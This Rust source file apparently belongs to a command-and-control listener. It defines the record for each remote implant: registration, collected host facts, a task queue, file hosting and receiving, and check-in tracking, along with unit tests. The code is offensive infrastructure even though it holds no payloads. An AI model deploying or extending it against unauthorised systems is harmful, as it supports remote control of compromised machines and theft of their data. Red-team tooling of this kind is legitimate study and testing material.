//! The implant record: the central entity of the listener.
//!
//! One record per remote agent, created at the registration GET, activated by
//! the registration POST, then mutated concurrently by the request handlers
//! and the admin plane. All mutation happens under the registry's per-record
//! lock; the record itself is plain data plus transition methods.

use std::collections::{HashMap, VecDeque};
use std::path::PathBuf;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use uuid::Uuid;

use harrier_crypto::ImplantKey;

/// Lifecycle of an implant as observed by the protocol.
///
/// Lateness is a sub-state of `Active` tracked by the `late` flag, so a late
/// implant still counts as active for reconnect purposes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum ImplantStatus {
    #[serde(rename = "NEW")]
    New,
    #[serde(rename = "ACTIVE")]
    Active,
    #[serde(rename = "DEAD")]
    Dead,
}

impl ImplantStatus {
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::New => "NEW",
            Self::Active => "ACTIVE",
            Self::Dead => "DEAD",
        }
    }
}

/// Host facts reported by the implant in the registration POST.
///
/// Field names follow the compact wire shape of the encrypted blob.
#[derive(Debug, Clone, Deserialize)]
pub struct ActivationInfo {
    #[serde(rename = "i")]
    pub ip_internal: String,
    #[serde(rename = "u")]
    pub username: String,
    #[serde(rename = "h")]
    pub hostname: String,
    #[serde(rename = "o")]
    pub os_build: String,
    #[serde(rename = "p")]
    pub pid: u32,
    #[serde(rename = "P")]
    pub process_name: String,
    #[serde(rename = "r")]
    pub risky_mode: bool,
}

#[derive(Debug, Clone, Serialize)]
pub struct ImplantRecord {
    pub id: String,
    /// Per-implant symmetric key, immutable after creation. Never serialized.
    #[serde(skip_serializing)]
    pub encryption_key: ImplantKey,
    pub workspace_uuid: Option<String>,
    pub ip_external: Option<String>,
    pub ip_internal: Option<String>,
    pub username: Option<String>,
    pub hostname: Option<String>,
    pub os_build: Option<String>,
    pub pid: Option<u32>,
    pub process_name: Option<String>,
    pub risky_mode: bool,
    pub pending_tasks: VecDeque<String>,
    pub hosting_file: Option<PathBuf>,
    pub receiving_file: Option<PathBuf>,
    pub first_seen: DateTime<Utc>,
    pub last_checkin: Option<DateTime<Utc>>,
    pub checkin_count: u64,
    pub late: bool,
    pub status: ImplantStatus,
    pub task_results: HashMap<String, String>,
}

impl ImplantRecord {
    /// Create a fresh record with a server-generated id and key.
    #[must_use]
    pub fn new() -> Self {
        let id = Uuid::new_v4().simple().to_string()[..8].to_string();
        Self {
            id,
            encryption_key: ImplantKey::generate(),
            workspace_uuid: None,
            ip_external: None,
            ip_internal: None,
            username: None,
            hostname: None,
            os_build: None,
            pid: None,
            process_name: None,
            risky_mode: false,
            pending_tasks: VecDeque::new(),
            hosting_file: None,
            receiving_file: None,
            first_seen: Utc::now(),
            last_checkin: None,
            checkin_count: 0,
            late: false,
            status: ImplantStatus::New,
            task_results: HashMap::new(),
        }
    }

    /// Active implants (late or not) are the ones reconnect will re-key.
    #[must_use]
    pub fn is_active(&self) -> bool {
        self.status == ImplantStatus::Active
    }

    /// Apply the decrypted registration blob and go live.
    pub fn activate(&mut self, ip_external: String, info: ActivationInfo) {
        self.ip_external = Some(ip_external);
        self.ip_internal = Some(info.ip_internal);
        self.username = Some(info.username);
        self.hostname = Some(info.hostname);
        self.os_build = Some(info.os_build);
        self.pid = Some(info.pid);
        self.process_name = Some(info.process_name);
        self.risky_mode = info.risky_mode;
        self.status = ImplantStatus::Active;
    }

    /// Liveness bookkeeping for an authenticated poll or registration POST.
    ///
    /// `last_checkin` is monotonic non-decreasing even if the clock steps
    /// backwards; the counter strictly increases; lateness clears.
    pub fn checkin(&mut self) {
        let now = Utc::now();
        self.last_checkin = Some(match self.last_checkin {
            Some(prev) if prev > now => prev,
            _ => now,
        });
        self.checkin_count += 1;
        self.late = false;
    }

    /// Admin-plane disable; a dead implant only ever gets 410 on reconnect.
    pub fn disable(&mut self) {
        self.status = ImplantStatus::Dead;
    }

    pub fn queue_task(&mut self, envelope: String) {
        self.pending_tasks.push_back(envelope);
    }

    /// Dequeue the oldest pending task.
    pub fn next_task(&mut self) -> Option<String> {
        self.pending_tasks.pop_front()
    }

    pub fn host_file(&mut self, path: PathBuf) {
        self.hosting_file = Some(path);
    }

    pub fn stop_hosting_file(&mut self) {
        self.hosting_file = None;
    }

    pub fn receive_file(&mut self, destination: PathBuf) {
        self.receiving_file = Some(destination);
    }

    pub fn stop_receiving_file(&mut self) {
        self.receiving_file = None;
    }

    /// Store a completed task result, matched by task id.
    pub fn set_task_result(&mut self, task_guid: String, result: String) {
        self.task_results.insert(task_guid, result);
    }
}

impl Default for ImplantRecord {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn activation() -> ActivationInfo {
        ActivationInfo {
            ip_internal: "10.0.0.5".into(),
            username: "operator".into(),
            hostname: "WKSTN-01".into(),
            os_build: "Windows 10.0.19045".into(),
            pid: 4812,
            process_name: "svchost.exe".into(),
            risky_mode: false,
        }
    }

    #[test]
    fn test_new_record_is_not_active() {
        let record = ImplantRecord::new();
        assert_eq!(record.status, ImplantStatus::New);
        assert!(!record.is_active());
        assert_eq!(record.checkin_count, 0);
        assert!(record.last_checkin.is_none());
    }

    #[test]
    fn test_ids_are_unique() {
        let a = ImplantRecord::new();
        let b = ImplantRecord::new();
        assert_ne!(a.id, b.id);
        assert_eq!(a.id.len(), 8);
    }

    #[test]
    fn test_activate_sets_host_facts() {
        let mut record = ImplantRecord::new();
        record.activate("203.0.113.7".into(), activation());

        assert!(record.is_active());
        assert_eq!(record.ip_external.as_deref(), Some("203.0.113.7"));
        assert_eq!(record.ip_internal.as_deref(), Some("10.0.0.5"));
        assert_eq!(record.hostname.as_deref(), Some("WKSTN-01"));
        assert_eq!(record.pid, Some(4812));
        assert!(!record.risky_mode);
    }

    #[test]
    fn test_checkin_is_monotonic_and_counted() {
        let mut record = ImplantRecord::new();
        record.activate("203.0.113.7".into(), activation());

        record.checkin();
        let first = record.last_checkin.unwrap();
        record.checkin();
        let second = record.last_checkin.unwrap();

        assert!(second >= first);
        assert_eq!(record.checkin_count, 2);
    }

    #[test]
    fn test_checkin_clears_lateness() {
        let mut record = ImplantRecord::new();
        record.activate("203.0.113.7".into(), activation());
        record.late = true;

        record.checkin();
        assert!(!record.late);
        assert!(record.is_active());
    }

    #[test]
    fn test_disable_ends_activity() {
        let mut record = ImplantRecord::new();
        record.activate("203.0.113.7".into(), activation());
        record.disable();
        assert!(!record.is_active());
        assert_eq!(record.status, ImplantStatus::Dead);
    }

    #[test]
    fn test_task_queue_is_fifo() {
        let mut record = ImplantRecord::new();
        record.queue_task("t1".into());
        record.queue_task("t2".into());
        record.queue_task("t3".into());

        assert_eq!(record.next_task().as_deref(), Some("t1"));
        assert_eq!(record.next_task().as_deref(), Some("t2"));
        assert_eq!(record.next_task().as_deref(), Some("t3"));
        assert_eq!(record.next_task(), None);
    }

    #[test]
    fn test_file_slots_are_single_shot() {
        let mut record = ImplantRecord::new();

        record.host_file(PathBuf::from("/srv/loot/tool.exe"));
        assert!(record.hosting_file.is_some());
        record.stop_hosting_file();
        assert!(record.hosting_file.is_none());

        record.receive_file(PathBuf::from("/tmp/out.bin"));
        assert!(record.receiving_file.is_some());
        record.stop_receiving_file();
        assert!(record.receiving_file.is_none());
    }

    #[test]
    fn test_serialized_record_omits_key() {
        let record = ImplantRecord::new();
        let json = serde_json::to_string(&record).unwrap();
        assert!(!json.contains("encryption_key"));
    }
}
